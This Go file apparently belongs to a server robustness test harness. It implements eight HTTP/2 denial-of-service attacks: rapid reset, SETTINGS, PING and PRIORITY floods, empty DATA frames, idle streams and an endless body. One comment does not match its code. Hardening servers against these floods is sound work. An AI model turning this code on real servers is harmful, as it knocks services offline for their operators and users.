package hostile

import (
	"context"

	"golang.org/x/net/http2"
)

// rapidReset opens streams and takes each of them back at once.
func rapidReset(ctx context.Context, w world) error {
	return w.attack(ctx, func(a *attacker) error {
		return untilRefused(w.size(5_000, 200_000), func(i int) error {
			stream := uint32(2*i + 1)
			if err := a.open(stream, put()); err != nil {
				return err
			}
			return a.framer.WriteRSTStream(stream, http2.ErrCodeCancel)
		})
	})
}

// madeReset makes the server reset the streams: DATA beyond the message that a
// header announced, on stream after stream.
func madeReset(ctx context.Context, w world) error {
	return w.attack(ctx, func(a *attacker) error {
		return untilRefused(w.size(5_000, 200_000), func(i int) error {
			stream := uint32(2*i + 1)
			if err := a.open(stream, put()); err != nil {
				return err
			}
			return a.framer.WriteWindowUpdate(stream, 1<<31-1)
		})
	})
}

// settingsFlood changes the settings again and again and takes no notice of the
// acknowledgements.
func settingsFlood(ctx context.Context, w world) error {
	return w.attack(ctx, func(a *attacker) error {
		return untilRefused(w.size(20_000, 500_000), func(i int) error {
			return a.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i % 1000)})
		})
	})
}

// pingFlood asks for answers all the time.
func pingFlood(ctx context.Context, w world) error {
	return w.attack(ctx, func(a *attacker) error {
		return untilRefused(w.size(20_000, 500_000), func(i int) error {
			return a.framer.WritePing(false, [8]byte{byte(i), byte(i >> 8)})
		})
	})
}

// emptyFrames sends DATA that holds nothing and does not end the stream.
func emptyFrames(ctx context.Context, w world) error {
	return w.attack(ctx, func(a *attacker) error {
		if err := a.open(1, put()); err != nil {
			return err
		}
		return untilRefused(w.size(20_000, 1_000_000), func(int) error {
			return a.framer.WriteData(1, false, nil)
		})
	})
}

// priorityFlood sends frames that have no meaning any more.
func priorityFlood(ctx context.Context, w world) error {
	return w.attack(ctx, func(a *attacker) error {
		return untilRefused(w.size(20_000, 500_000), func(i int) error {
			return a.framer.WritePriority(uint32(2*i+1), http2.PriorityParam{StreamDep: 0, Weight: 1})
		})
	})
}

// openStreams opens as many streams as it can and sends nothing on them.
func openStreams(ctx context.Context, w world) error {
	return w.attack(ctx, func(a *attacker) error {
		return untilRefused(w.size(2_000, 50_000), func(i int) error { return a.open(uint32(2*i+1), put()) })
	})
}

// endlessBody sends a message that is announced as 4 GiB.
func endlessBody(ctx context.Context, w world) error {
	chunk := make([]byte, 16<<10)
	return w.attack(ctx, func(a *attacker) error {
		if err := a.open(1, put()); err != nil {
			return err
		}
		if err := a.framer.WriteData(1, false, []byte{0, 0xff, 0xff, 0xff, 0xff}); err != nil {
			return err
		}
		return untilRefused(w.size(1_000, 20_000), func(int) error { // 16 MiB, 320 MiB
			return a.framer.WriteData(1, false, chunk)
		})
	})
}
